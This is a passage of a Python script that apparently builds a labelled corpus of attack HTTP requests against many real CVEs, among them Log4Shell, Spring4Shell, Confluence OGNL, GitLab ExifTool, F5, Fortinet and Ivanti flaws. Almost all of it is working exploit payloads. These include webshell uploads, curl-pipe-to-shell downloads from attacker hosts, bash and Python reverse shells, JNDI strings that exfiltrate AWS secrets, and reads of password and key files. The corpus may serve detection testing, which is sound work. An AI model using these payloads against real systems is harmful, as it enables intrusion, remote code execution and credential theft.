                               ("top.UploadFileName", None, None, "../../../webapps/ROOT/cmd.jsp")])
    o.add("java", "struts-s2-067", "POST", th(rng, "struts"), "/fileupload/doUpload.action", atk(rng, [("Content-Type", ct)]), body)


# ---- Spring ---------------------------------------------------------------

def a_spring(o):
    rng = R("spring")
    # Spring4Shell (CVE-2022-22965)
    pat = "%{c2}i if(\"j\".equals(request.getParameter(\"pwd\"))){ java.io.InputStream in = %{c1}i.getRuntime().exec(request.getParameter(\"cmd\")).getInputStream(); int a = -1; byte[] b = new byte[2048]; while((a=in.read(b))!=-1){ out.println(new String(b)); } } %{suffix}i"
    p = [("class.module.classLoader.resources.context.parent.pipeline.first.pattern", pat),
         ("class.module.classLoader.resources.context.parent.pipeline.first.suffix", ".jsp"),
         ("class.module.classLoader.resources.context.parent.pipeline.first.directory", "webapps/ROOT"),
         ("class.module.classLoader.resources.context.parent.pipeline.first.prefix", "tomcatwar"),
         ("class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat", "")]
    s4s_h = [("suffix", "%>//"), ("c1", "Runtime"), ("c2", "<%"), ("DNT", "1")]
    o.add("java", "spring4shell", "POST", th(rng, "spring"), "/",
          atk(rng, s4s_h + [("Content-Type", "application/x-www-form-urlencoded")]), qs(p))
    o.add("java", "spring4shell", "GET", th(rng, "spring"), "/?class.module.classLoader.URLs%5B0%5D=0", atk(rng))
    o.add("java", "spring4shell", "POST", th(rng, "spring"), "/index",
          atk(rng, [("Content-Type", "application/x-www-form-urlencoded")]),
          "class.module.classLoader.resources.context.configFile=http://%s/conf&class.module.classLoader.resources.context.configFile.content.config=config.conf" % oast(rng))
    # Spring Cloud Function (CVE-2022-22963)
    for v in ['T(java.lang.Runtime).getRuntime().exec("touch /tmp/pwned")',
              'new java.lang.ProcessBuilder({"bash","-c","id > /dev/tcp/%s/4444"}).start()' % evil_ip(rng),
              'T(java.net.InetAddress).getByName("%s")' % oast(rng)]:
        o.add("java", "spring-cloud-function", "POST", th(rng, "spring"), rng.choice(["/functionRouter", "/functionRouter", "/uppercase"]),
              atk(rng, [("spring.cloud.function.routing-expression", v), ("Content-Type", "text/plain")]), "test")
    # Spring Cloud Gateway (CVE-2022-22947)
    route = {"id": "hacktest", "filters": [{"name": "AddResponseHeader", "args": {"name": "Result", "value": "#{new String(T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime().exec(new String[]{\"id\"}).getInputStream()))}"}}], "uri": "http://example.com"}
    o.add("java", "spring-cloud-gateway", "POST", th(rng, "spring"), "/actuator/gateway/routes/hacktest",
          atk(rng, [("Content-Type", "application/json")]), jdump(route))
    route = {"id": "x%s" % hexs(rng, 6), "predicates": [{"name": "Path", "args": {"_genkey_0": "/x"}}],
             "filters": [{"name": "RewritePath", "args": {"_genkey_0": "#{T(java.lang.Class).forName('java.lang.Ru'+'ntime').getMethod('getRu'+'ntime').invoke(null).exec('curl http://%s/')}" % oast(rng), "_genkey_1": "/${path}"}}],
             "uri": "http://127.0.0.1:8080", "order": 0}
    o.add("java", "spring-cloud-gateway", "POST", th(rng, "spring"), "/actuator/gateway/routes/" + route["id"],
          atk(rng, [("Content-Type", "application/json")]), jpretty(route))
    # actuator abuse: env + H2 / jolokia logback
    o.add("java", "spring-actuator", "POST", th(rng, "spring"), "/actuator/env",
          atk(rng, [("Content-Type", "application/json")]),
          jdump({"name": "spring.datasource.hikari.connection-test-query",
                 "value": "CREATE ALIAS EXEC AS 'String shellexec(String cmd) throws java.io.IOException { java.util.Scanner s = new java.util.Scanner(Runtime.getRuntime().exec(cmd).getInputStream()); if (s.hasNext()) {return s.next();} throw new IllegalArgumentException(); }'; CALL EXEC('curl http://%s/');" % oast(rng)}))
    o.add("java", "spring-actuator", "GET", th(rng, "spring"),
          "/actuator/jolokia/exec/ch.qos.logback.classic:Name=default,Type=ch.qos.logback.classic.jmx.JMXConfigurator/reloadByURL/http:!/!/%s!/logback.xml" % evil_ip(rng),
          atk(rng))
    # Spring view manipulation (Thymeleaf fragment expression)
    o.add("ssti", "spring-thymeleaf", "GET", th(rng, "spring"),
          "/doc/__$%7BT(java.lang.Runtime).getRuntime().exec(%22id%22)%7D__::.x", atk(rng))
    o.add("ssti", "spring-thymeleaf", "GET", th(rng, "spring"),
          "/path?lang=" + Q("__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec(\"id\").getInputStream()).next()}__::.x"),
          atk(rng))
    # Spring Cloud Config path traversal (CVE-2020-5410, CVE-2019-3799)
    o.add("lfi", "spring-cloud-config", "GET", th(rng, "spring"),
          "/..%252F..%252F..%252F..%252F..%252F..%252Fetc%252Fpasswd%23foo/development", atk(rng))
    o.add("lfi", "spring-cloud-config", "GET", th(rng, "spring"),
          "/foo/default/master/..%252F..%252F..%252F..%252F..%252F..%252F..%252F..%252Fetc%252Fpasswd", atk(rng))


# ---- Log4Shell (CVE-2021-44228 / 45046) -----------------------------------

def a_log4shell(o):
    rng = R("log4shell")
    hosts = [oast(rng), "%s:1389" % evil_ip(rng), oast(rng), "log4shell.huntress.com:1389/%s" % uuid(rng),
             "%s:12344/Basic/Command/Base64/KGN1cmwgLXMgNDUuMTU1LjIwNS4yMzM6NTg3NC8xNDIuOTMuMjIuMTU6NDQzfHx3Z2V0IC1xIC1PLSA0NS4xNTUuMjA1LjIzMzo1ODc0LzE0Mi45My4yMi4xNTo0NDMpfGJhc2g=" % evil_ip(rng)]
    forms = [
        "${jndi:ldap://H/a}",
        "${jndi:ldap://H}",
        "${jndi:rmi://H/obj}",
        "${jndi:dns://H/x}",
        "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://H/poc}",
        "${${lower:j}${lower:n}${lower:d}${lower:i}:${lower:l}${lower:d}${lower:a}${lower:p}://H/a}",
        "${${upper:j}ndi:${upper:l}dap://H/a}",
        "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//H/a}",
        "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://H/a}",
        "${j${main:\\k5:-Nd}i${spring:k5:-:}ldap://H/a}",
        "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://H/a}",
        "${jndi:${lower:l}${lower:d}a${lower:p}://H/a}",
        "${jn${::-}di:ldap://H/a}",
        "${jndi:ldap://${env:USER}.H/a}",
        "${jndi:ldap://${sys:java.version}.${hostName}.H/a}",
        "${jndi:ldaps://H/a}",
        "${jndi:iiop://H/a}",
        "${jndi:ldap://127.0.0.1#H:1389/a}",
        "${jndi:ldap://H/${env:AWS_SECRET_ACCESS_KEY}}",
        "${jnd${upper:\u0131}:ldap://H/a}",
        "${${::-j}ndi:${::-l}${::-d}${::-a}${::-p}://H/${ctx:loginId}}",
        "${j${::-n}d${lower:I}:${lower:L}${::-d}ap://H/z}",
    ]

    def p(k):
        return forms[(k * 5) % len(forms)].replace("H", rng.choice(hosts))
    hdr_names = ["User-Agent", "X-Api-Version", "Referer", "X-Forwarded-For", "True-Client-IP",
                 "Contact", "X-Wap-Profile", "Authorization", "Origin"]
    k = 0
    for i, hn in enumerate(hdr_names):
        pay = p(k)
        k += 1
        if hn == "Authorization":
            pay = "Bearer " + pay
        elif hn == "Forwarded":
            pay = "for=" + pay
        elif hn == "Origin":
            pay = "http://" + pay
        extra = [(hn, pay)]
        ua = None
        if hn == "User-Agent":
            ua = pay
            extra = []
        host_kind = rng.choice(["spring", "misc", "solr", "jira", "vmware", "elastic", "confluence"])
        path = rng.choice(["/", "/login", "/api/v1/status", "/index.jsp", "/solr/", "/secure/Dashboard.jspa", "/?x=1"])
        o.add("java", "log4shell-header", "GET", th(rng, host_kind), path, atk(rng, extra, ua=ua))
    # Cookie
    o.add("java", "log4shell-header", "GET", th(rng, "misc"), "/",
          atk(rng, [("Cookie", "JSESSIONID=%s; lang=%s" % (hexs(rng, 32).upper(), p(k)))]))
    k += 1
    # product-specific sinks
    o.add("java", "log4shell-vcenter", "GET", th(rng, "vmware"),
          "/websso/SAML2/SSO/vsphere.local?SAMLRequest=", atk(rng, [("X-Forwarded-For", p(k))]))
    k += 1
    o.add("java", "log4shell-horizon", "GET", th(rng, "vmware"), "/portal/info.jsp",
          atk(rng, [("Accept-Language", p(k))]))
    k += 1
    o.add("java", "log4shell-unifi", "POST", "unifi.example.com:8443", "/api/login",
          atk(rng, [("Content-Type", "application/json; charset=utf-8"), ("Origin", "https://unifi.example.com:8443")]),
          jdump({"username": "admin", "password": "password", "remember": p(k), "strict": True}))
    k += 1
    o.add("java", "log4shell-mobileiron", "POST", "mdm.example.com", "/mifs/j_spring_security_check",
          atk(rng, [("Content-Type", "application/x-www-form-urlencoded"), ("Referer", "https://mdm.example.com/mifs/user/login.jsp")]),
          "j_username=" + Q(p(k)) + "&j_password=password&logincontext=employee")
    k += 1
    o.add("java", "log4shell-solr", "GET", th(rng, "solr"), "/solr/admin/cores?action=" + Q(p(k)) + "&wt=json", atk(rng))
    k += 1
    o.add("java", "log4shell-query", "GET", th(rng, "misc"), "/search?q=" + Q(p(k)), atk(rng))
    k += 1
    o.add("java", "log4shell-json", "POST", th(rng, "spring"), "/api/auth/login",
          atk(rng, [("Content-Type", "application/json")]),
          '{"username":"\\u0024\\u007bjndi:ldap://%s/a\\u007d","password":"x"}' % rng.choice(hosts))
    o.add("java", "log4shell-json", "POST", th(rng, "misc"), "/graphql",
          atk(rng, [("Content-Type", "application/json")]),
          jdump({"query": "query Search($q: String!) { search(term: $q) { id } }",
                 "variables": {"q": "${${base64:JHtqbmRpOmxkYXA6Ly8xMjcuMC4wLjE6MTM4OS9hfQ==}}"}}))


# ---- Atlassian Confluence -------------------------------------------------

def a_confluence(o):
    rng = R("confluence")
    ognl = [
        '${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec("id").getInputStream(),"utf-8")).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader("X-Cmd-Response",#a))}',
        '${Class.forName("com.opensymphony.webwork.ServletActionContext").getMethod("getResponse",null).invoke(null,null).setHeader("X-Confluence-Check","%s")}' % hexs(rng, 8),
        '${(#a=new javax.script.ScriptEngineManager().getEngineByName("nashorn").eval("var x=new java.lang.ProcessBuilder(\\"bash\\",\\"-c\\",\\"curl %s|sh\\");x.start();"))}' % evil_ip(rng),
    ]
    for i, g in enumerate(ognl):
        uri = "/" + Q(g) + "/"
        if i == 1:
            uri = "/" + Q(g, safe="$") + "/"
        o.add("java", "confluence-cve-2022-26134", "GET", th(rng, "confluence"), uri, atk(rng))
    # CVE-2021-26084 queryString OGNL
    o.add("java", "confluence-cve-2021-26084", "POST", th(rng, "confluence"), "/pages/createpage-entervariables.action?SpaceKey=x",
          atk(rng, [("Content-Type", "application/x-www-form-urlencoded")]),
          "queryString=aaaaaaaa%5Cu0027%2B%7BClass.forName%28%5Cu0027javax.script.ScriptEngineManager%5Cu0027%29.newInstance%28%29.getEngineByName%28%5Cu0027JavaScript%5Cu0027%29.%5Cu0065val%28%5Cu0027var+isWin+%3D+java.lang.System.getProperty%28%5Cu0022os.name%5Cu0022%29.toLowerCase%28%29.contains%28%5Cu0022win%5Cu0022%29%3B+var+cmd+%3D+new+java.lang.String%28%5Cu0022id%5Cu0022%29%3Bvar+p+%3D+new+java.lang.ProcessBuilder%28%29%3B+if%28isWin%29%7Bp.command%28%5Cu0022cmd.exe%5Cu0022%2C+%5Cu0022%2Fc%5Cu0022%2C+cmd%29%3B+%7D+else%7Bp.command%28%5Cu0022bash%5Cu0022%2C+%5Cu0022-c%5Cu0022%2C+cmd%29%3B+%7Dp.redirectErrorStream%28true%29%3B+var+process%3D+p.start%28%29%3B+var+inputStreamReader+%3D+new+java.io.InputStreamReader%28process.getInputStream%28%29%29%3B+var+bufferedReader+%3D+new+java.io.BufferedReader%28inputStreamReader%29%3B+var+line+%3D+%5Cu0022%5Cu0022%3B+var+output+%3D+%5Cu0022%5Cu0022%3B+while%28%28line+%3D+bufferedReader.readLine%28%29%29+%21%3D+null%29%7Boutput+%3D+output+%2B+line+%2B+java.lang.Character.toString%2810%29%3B+%7D%5Cu0027%29%7D%2B%5Cu0027")
    o.add("java", "confluence-cve-2021-26084", "POST", th(rng, "confluence"), "/pages/doenterpagevariables.action",
          atk(rng, [("Content-Type", "application/x-www-form-urlencoded")]),
          "queryString=%5Cu0027%2B%23%7B3*33%7D%2B%5Cu0027")
    # CVE-2023-22527 text-inline.vm
    o.add("ssti", "confluence-cve-2023-22527", "POST", th(rng, "confluence"), "/template/aui/text-inline.vm",
          atk(rng, [("Content-Type", "application/x-www-form-urlencoded")]),
          "label=\\u0027%2b#request\\u005b\\u0027.KEY_velocity.struts2.context\\u0027\\u005d.internalGet(\\u0027ognl\\u0027).findValue(#parameters.x,{})%2b\\u0027&x=@org.apache.struts2.ServletActionContext@getResponse().setHeader('X-Cmd-Response',(new freemarker.template.utility.Execute()).exec({\"id\"}))")
    o.add("ssti", "confluence-cve-2023-22527", "POST", th(rng, "confluence"), "/template/aui/text-inline.vm",
          atk(rng, [("Content-Type", "application/x-www-form-urlencoded")]),
          "label=" + Q("\\u0027+#request\\u005b\\u0027.KEY_velocity.struts2.context\\u0027\\u005d.internalGet(\\u0027ognl\\u0027).findValue(#parameters.poc[0],{})+\\u0027")
          + "&poc[0]=" + Q("@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('curl %s').getInputStream())" % oast(rng)))
    # CVE-2023-22515 broken access control (setup flag through XWork param)
    o.add("java", "confluence-cve-2023-22515", "GET", th(rng, "confluence"),
          "/server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false", atk(rng))
    # CVE-2019-3396 widget connector _template
    body = {"contentId": str(rng.randint(100000, 999999)), "macro": {"name": "widget", "body": "", "params": {
        "url": "https://www.viddler.com/v/23464dc6", "width": "1000", "height": "1000", "_template": "file:///etc/passwd"}}}
    o.add("lfi", "confluence-cve-2019-3396", "POST", th(rng, "confluence"), "/rest/tinymce/1/macro/preview",
          atk(rng, [("Content-Type", "application/json; charset=utf-8"), ("Referer", "https://confluence.example.com/pages/resumedraft.action?draftId=%d" % rng.randint(10000, 99999))]),
          jdump(body))
    body["macro"]["params"]["_template"] = "https://%s/cmd.vm" % evil_ip(rng)
    body["macro"]["params"]["command"] = "id"
    o.add("rfi", "confluence-cve-2019-3396", "POST", th(rng, "confluence"), "/rest/tinymce/1/macro/preview",
          atk(rng, [("Content-Type", "application/json; charset=utf-8")]), jdump(body))
    # CVE-2021-26085 / Jira CVE-2021-26086 WEB-INF read via /s/.../_/;/
    o.add("lfi", "confluence-cve-2021-26085", "GET", th(rng, "confluence"), "/s/%s/_/;/WEB-INF/web.xml" % alnum(rng, 6), atk(rng))
    # CVE-2019-3398 attachment download path traversal (upload side)
    ct, b = multipart(rng, [("file_0", "../../../../../../opt/atlassian/confluence/confluence/pages/test.jsp", "text/plain",
                             '<%@ page import="java.util.*,java.io.*"%><% Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); %>'),
                            ("comment_0", None, None, ""), ("confirm", None, None, "Attach")])
    o.add("lfi", "confluence-cve-2019-3398", "POST", th(rng, "confluence"),
          "/plugins/drag-and-drop/upload.action?pageId=%d&filename=..%%2F..%%2F..%%2F..%%2F..%%2Fopt%%2Fatlassian%%2Fconfluence%%2Fconfluence%%2Fpages%%2Ftest.jsp&size=8&mimeType=text%%2Fplain&atl_token=%s" % (rng.randint(100000, 999999), hexs(rng, 40)),
          atk(rng, [("Content-Type", ct)]), b)


# ---- Jira / Bitbucket / GitLab / Jenkins ----------------------------------

def a_devtools(o):
    rng = R("devtools")
    # Jira CVE-2019-11581 ContactAdministrators velocity
    o.add("ssti", "jira-cve-2019-11581", "POST", th(rng, "jira"), "/secure/ContactAdministrators.jspa",
          atk(rng, [("Content-Type", "application/x-www-form-urlencoded")]),
          form([("from", "admin@example.com"),
                ("subject", "$i18n.getClass().forName('java.lang.Runtime').getMethod('getRuntime',null).invoke(null,null).exec('curl http://%s/').waitFor()" % oast(rng)),
                ("details", "exploit details"), ("atl_token", "B%s|%s|lout" % (hexs(rng, 3).upper(), hexs(rng, 40))), ("Send", "Send")]))
    # Jira SSRF (CVE-2019-8451, CVE-2017-9506)
    o.add("ssrf", "jira-cve-2019-8451", "GET", th(rng, "jira"),
          "/plugins/servlet/gadgets/makeRequest?url=https://jira.example.com:443@169.254.169.254/latest/meta-data/iam/security-credentials/",
          atk(rng, [("X-Atlassian-Token", "no-check")]))
    o.add("ssrf", "jira-cve-2017-9506", "GET", th(rng, "jira"),
          "/plugins/servlet/oauth/users/icon-uri?consumerUri=http://169.254.169.254/latest/meta-data/", atk(rng))
    # Jira CVE-2021-26086
    for f in ["/WEB-INF/decorators.xml", "/META-INF/maven/com.atlassian.jira/jira-webapp-dist/pom.properties"]:
        o.add("lfi", "jira-cve-2021-26086", "GET", th(rng, "jira"), "/s/%s/_/;%s" % (alnum(rng, 5), f), atk(rng))
    # Jira Seraph bypass (CVE-2022-0540)
    o.add("generic", "jira-cve-2022-0540", "GET", th(rng, "jira"),
          "/InsightPluginShowGeneralConfiguration.jspa;", atk(rng))
    # Bitbucket CVE-2022-36804 archive argument injection
    o.add("rce", "bitbucket-cve-2022-36804", "GET", th(rng, "bitbucket"),
          "/rest/api/latest/projects/ENG/repos/infra/archive?filename=pLhDb&at=pLhDb&path=pLhDb&prefix=ax%00--exec=%60curl%20-s%20http://" + oast(rng) + "%60%00--remote=origin",
          atk(rng))
    # GitLab CVE-2021-22205 ExifTool DjVu
    djvu = ("AT&TFORM\x00\x00\x00\xafDJVUINFO\x00\x00\x00\n\x00\x08\x00\x08\x18\x00d\x00\x16\x00INCL\x00\x00\x00\x0fshared_anno.iff\x00BG44\x00\x00\x00\x11\x00J\x01\x02\x00\x08\x00\x08\x8a\xe6\xe1\xb17\xd9\x7f*\x89\x00BG44\x00\x00\x00\x04\x01\x0f\xf9\x9fBG44\x00\x00\x00\x02\x02\nFORM\x00\x00\x03\x07DJVIANTa\x00\x00\x01P"
            "(metadata\n\t(Copyright \"\\\n\" . qx{echo vakzz >/tmp/vakzz; curl -s http://%s/gl.sh | bash} . \\\n\" b \") )\n" % evil_ip(rng))
    ct, b = multipart(rng, [("file", "test.jpg", "image/jpeg", djvu)])
    o.add("rce", "gitlab-cve-2021-22205", "POST", th(rng, "gitlab"), "/uploads/user",
          atk(rng, [("Content-Type", ct), ("X-CSRF-Token", b64(hexs(rng, 48)))]), b)
    # GitLab CVE-2023-2825 uploads traversal
    o.add("lfi", "gitlab-cve-2023-2825", "GET", th(rng, "gitlab"),
          "/g1/g2/g3/g4/g5/g6/g7/g8/g9/p/uploads/%s/..%%2F..%%2F..%%2F..%%2F..%%2F..%%2F..%%2F..%%2F..%%2F..%%2F..%%2Fetc%%2Fpasswd" % hexs(rng, 32),
          atk(rng))
    # GitLab CVE-2021-22214 CI lint SSRF
    o.add("ssrf", "gitlab-cve-2021-22214", "POST", th(rng, "gitlab"), "/api/v4/ci/lint",
          atk(rng, [("Content-Type", "application/json")]),
          jdump({"include_merged_yaml": True, "content": "include:\n  remote: http://169.254.169.254/latest/meta-data/iam/security-credentials/ci.yml"}))
    # GitLab CVE-2023-7028 reset mail to an extra address
    o.add("generic", "gitlab-cve-2023-7028", "POST", th(rng, "gitlab"), "/users/password",
          atk(rng, [("Content-Type", "application/x-www-form-urlencoded")]),
          "authenticity_token=%s&user%%5Bemail%%5D%%5B%%5D=admin%%40example.com&user%%5Bemail%%5D%%5B%%5D=attacker%%40mail.ru" % Q(b64(hexs(rng, 48))))
    # Jenkins script console
    crumb = hexs(rng, 64)
    o.add("rce", "jenkins-script-console", "POST", th(rng, "jenkins"), "/script",
          atk(rng, [("Content-Type", "application/x-www-form-urlencoded"), ("Jenkins-Crumb", crumb)]),
          form([("script", 'println "id".execute().text'), ("Jenkins-Crumb", crumb), ("json", '{"script": "println \\"id\\".execute().text", "": "", "Jenkins-Crumb": "%s"}' % crumb), ("Submit", "Run")]))
    o.add("rce", "jenkins-script-console", "POST", th(rng, "jenkins"), "/scriptText",
          atk(rng, [("Content-Type", "application/x-www-form-urlencoded"), ("Authorization", "Basic " + b64("admin:admin"))]),
          form([("script", 'def proc = ["bash","-c","curl -fsSL http://%s/k.sh | sh"].execute(); proc.waitFor(); println proc.text' % evil_ip(rng))]))
    # Jenkins CVE-2018-1000861 / CVE-2019-1003000 sandbox bypass
    o.add("java", "jenkins-cve-2018-1000861", "GET", th(rng, "jenkins"),
          "/securityRealm/user/admin/descriptorByName/org.jenkinsci.plugins.scriptsecurity.sandbox.groovy.SecureGroovyScript/checkScript?sandbox=true&value="
          + Q('public class x { public x(){ "curl http://%s/".execute() } }' % oast(rng)), atk(rng))
    o.add("java", "jenkins-cve-2019-1003000", "GET", th(rng, "jenkins"),
          "/descriptorByName/org.jenkinsci.plugins.workflow.cps.CpsFlowDefinition/checkScriptCompile?value="
          + Q("@GrabConfig(disableChecksums=true)\n@GrabResolver(name='orange.tw', root='http://%s/')\n@Grab(group='tw.orange', module='poc', version='1')\nimport Orange;" % evil_ip(rng)),
          atk(rng))
    # Jenkins CVE-2024-23897 args4j @file expansion over the CLI HTTP endpoint
    sess = uuid(rng)
    for target in ["/etc/passwd", "/var/jenkins_home/secrets/master.key"]:
        cmdname = "help" if target == "/etc/passwd" else "connect-node"
        arg = "@" + target
        frame = ("\x00\x00\x00" + chr(len(cmdname) + 2) + "\x00\x00" + chr(len(cmdname)) + cmdname
                 + "\x00\x00\x00" + chr(len(arg) + 2) + "\x00\x00" + chr(len(arg)) + arg
                 + "\x00\x00\x00\x05\x02\x00\x03GBK\x00\x00\x00\x07\x01\x00\x05en_US\x00\x00\x00\x00\x03")
        o.add("lfi", "jenkins-cve-2024-23897", "POST", th(rng, "jenkins"), "/cli?remoting=false",
              atk(rng, [("Session", sess), ("Side", "upload"), ("Content-Type", "application/octet-stream")]), frame)


# ---- Apache httpd 2.4.49/2.4.50, Flink, ES, Kibana, misc traversal --------

def a_traversal(o):
    rng = R("traversal")
    for uri in ["/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
                "/cgi-bin/.%%32%65/.%%32%65/.%%32%65/.%%32%65/etc/passwd",
                "/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/etc/hosts"]:
        o.add("lfi", "httpd-cve-2021-41773", "GET", th(rng, "httpd"), uri, atk(rng))
    o.add("rce", "httpd-cve-2021-41773", "POST", th(rng, "httpd"), "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
          atk(rng, [("Content-Type", "application/x-www-form-urlencoded")]), "echo Content-Type: text/plain; echo; id")
    o.add("rce", "httpd-cve-2021-42013", "POST", th(rng, "httpd"),
          "/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/bin/sh",
          atk(rng, [("Content-Type", "text/plain")]),
          "echo;(curl -s http://%s/ap.sh||wget -q -O- http://%s/ap.sh)|sh" % (evil_ip(rng), evil_ip(rng)))
    # Grafana CVE-2021-43798
    for plugin, f in [("alertlist", "../../../../../../../../etc/passwd"),
                      ("mysql", "..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2fproc%2fself%2fenviron"),
                      ("welcome", "#/../../../../../../../../../etc/passwd")]:
        o.add("lfi", "grafana-cve-2021-43798", "GET", th(rng, "grafana"), "/public/plugins/%s/%s" % (plugin, f), atk(rng))
    # Citrix CVE-2019-19781
    o.add("lfi", "citrix-cve-2019-19781", "GET", th(rng, "citrix"), "/vpn/../vpns/cfg/smb.conf", atk(rng))
    o.add("ssti", "citrix-cve-2019-19781", "POST", th(rng, "citrix"), "/vpn/../vpns/portal/scripts/newbm.pl",
          atk(rng, [("NSC_USER", "../../../netscaler/portal/templates/%s" % alnum(rng, 8)), ("NSC_NONCE", "nsroot"),
                    ("Content-Type", "application/x-www-form-urlencoded")]),
          "url=http://example.com&title=" + Q("[% template.new({'BLOCK'='print readpipe(chr(105) . chr(100))'})%]") + "&desc=desc&UI_inuse=RfWeb")
    o.add("lfi", "citrix-cve-2020-8193", "POST", th(rng, "citrix"), "/rapi/filedownload?filter=path:%2Fetc%2Fpasswd",
          atk(rng, [("Content-Type", "application/xml"), ("X-NITRO-USER", alnum(rng, 8)), ("X-NITRO-PASS", alnum(rng, 8)),
                    ("Cookie", "SESSID=%s" % hexs(rng, 32))]),
          '<clipermission></clipermission>')
    # F5 BIG-IP CVE-2020-5902
    o.add("lfi", "f5-cve-2020-5902", "GET", th(rng, "f5"), "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd", atk(rng))
    o.add("rce", "f5-cve-2020-5902", "GET", th(rng, "f5"), "/tmui/login.jsp/..;/tmui/locallb/workspace/tmshCmd.jsp?command=list+auth+user+admin", atk(rng))
    o.add("rce", "f5-cve-2020-5902", "POST", th(rng, "f5"), "/tmui/login.jsp/..;/tmui/locallb/workspace/fileSave.jsp",
          atk(rng, [("Content-Type", "application/x-www-form-urlencoded")]),
          "fileName=/tmp/1.txt&content=" + Q("bash -i >& /dev/tcp/%s/8443 0>&1" % evil_ip(rng)))
    o.add("java", "f5-cve-2020-5902", "POST", th(rng, "f5"), "/hsqldb%0a",
          atk(rng, [("Content-Type", "application/x-www-form-urlencoded")]),
          "CALL \"java.lang.System.setProperty\"('org.apache.commons.collections.enableUnsafeSerialization','true')")
    # F5 CVE-2022-1388
    for cmd in ["-c 'curl -k https://%s/f5.sh | bash'" % evil_ip(rng)]:
        o.add("rce", "f5-cve-2022-1388", "POST", th(rng, "f5"), "/mgmt/tm/util/bash",
              atk(rng, [("Connection", "keep-alive, X-F5-Auth-Token"), ("X-F5-Auth-Token", "a"),
                        ("Authorization", "Basic YWRtaW46"), ("Content-Type", "application/json")]),
              jdump({"command": "run", "utilCmdArgs": cmd}))
    # Fortinet
    o.add("lfi", "fortinet-cve-2018-13379", "GET", th(rng, "fortinet"),
          "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession", atk(rng))
    o.add("generic", "fortinet-cve-2022-40684", "PUT", th(rng, "fortinet"), "/api/v2/cmdb/system/admin/admin",
          [["User-Agent", "Report Runner"], ["Content-Type", "application/json"],
           ["Forwarded", 'for="[127.0.0.1]:8000";by="[127.0.0.1]:9000";']],
          jdump({"ssh-public-key1": '"ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQC%s attacker@kali"' % alnum(rng, 60)}))
    o.add("sqli", "fortiweb-cve-2025-25257", "GET", th(rng, "fortinet"), "/api/fabric/device/status",
          atk(rng, [("Authorization", "Bearer AAAAAA'or'1'='1")]))
    o.add("sqli", "fortiweb-cve-2025-25257", "GET", th(rng, "fortinet"), "/api/fabric/device/status",
          atk(rng, [("Authorization", "Bearer ';SELECT/**/0x3c3f706870206576616c28245f504f53545b305d293b203f3e/**/INTO/**/OUTFILE/**/'../../lib/python3.10/site-packages/x.pth'--/**/")]))
    # Pulse Secure CVE-2019-11510
    o.add("lfi", "pulse-cve-2019-11510", "GET", th(rng, "pulse"),
          "/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/", atk(rng))
    o.add("lfi", "pulse-cve-2019-11510", "GET", th(rng, "pulse"),
          "/dana-na/../dana/html5acc/guacamole/../../../../../../data/runtime/mtmp/lmdb/dataa/data.mdb?/dana/html5acc/guacamole/", atk(rng))
    # Ivanti Connect Secure CVE-2023-46805 + CVE-2024-21887
    o.add("lfi", "ivanti-cve-2023-46805", "GET", th(rng, "pulse"), "/api/v1/totp/user-backup-code/../../system/system-information", atk(rng))
    o.add("rce", "ivanti-cve-2024-21887", "GET", th(rng, "pulse"),
          "/api/v1/totp/user-backup-code/../../license/keys-status/%3Bcurl%20-s%20http%3A%2F%2F" + oast(rng) + "%2F%3B", atk(rng))
    o.add("rce", "ivanti-cve-2024-21887", "POST", th(rng, "pulse"),
          "/api/v1/totp/user-backup-code/../../system/maintenance/archiving/cloud-server-test-connection",
          atk(rng, [("Content-Type", "application/json")]),
          jdump({"type": ";python -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"%s\",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call([\"/bin/sh\",\"-i\"])';" % evil_ip(rng),
                 "txtGCPProject": "a", "txtGCPSecret": "a", "txtGCPPath": "a", "txtGCPBucket": "a"}))
    # Ivanti EPMM CVE-2025-4427/4428 EL injection
    o.add("java", "ivanti-epmm-cve-2025-4428", "GET", "mdm.example.com",
          "/mifs/rs/api/v2/featureusage?format=" + Q("${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(''.getClass().forName('java.lang.Runtime')).exec('curl %s')}" % oast(rng)),
          atk(rng))
    # Flink, Elasticsearch head plugin, Kibana console
    o.add("lfi", "flink-cve-2020-17519", "GET", "flink-jobmanager.example.com:8081",
          "/jobmanager/logs/..%252f..%252f..%252f..%252f..%252f..%252f..%252f..%252f..%252f..%252f..%252f..%252fetc%252fpasswd", atk(rng))
    o.add("lfi", "es-cve-2015-3337", "GET", th(rng, "elastic"), "/_plugin/head/../../../../../../../../../etc/passwd", atk(rng))
    o.add("lfi", "kibana-cve-2018-17246", "GET", "kibana.example.com",
          "/api/console/api_server?sense_version=%40%40SENSE_VERSION&apis=../../../../../../../../../../../etc/passwd", atk(rng))
    # Rails CVE-2019-5418 Accept header file disclosure
    o.add("lfi", "rails-cve-2019-5418", "GET", th(rng, "misc"), "/robots",
          atk(rng, accept="../../../../../../../../../../etc/passwd{{"))
    # Tomcat ..;/ to manager
